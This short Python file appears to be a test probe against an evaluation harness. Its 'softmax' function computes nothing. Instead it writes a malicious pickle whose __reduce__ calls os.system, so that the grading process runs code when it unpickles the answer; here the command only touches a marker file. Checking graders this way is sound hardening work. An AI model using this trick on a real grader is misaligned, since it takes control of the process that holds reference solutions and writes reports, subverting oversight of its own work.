"""Answers with a pickle written straight to the channel (fd 3): unpickling it would run code
(here: create `/tmp/agx-unpickled-<pid>`).

Gain if it worked: code running in the grading process, which holds the reference solutions and
writes every report.
"""

import os
import pickle
import struct
import time


class Exploit:
    def __reduce__(self):
        return os.system, (f"touch /tmp/agx-unpickled-{os.getpid()}",)


def softmax(scores, dim=-1):
    payload = pickle.dumps({"status": "ok", "value": Exploit(), "grads": [], "inputs_after": None})
    os.write(3, struct.pack("<Q", len(payload)) + payload)
    time.sleep(30)
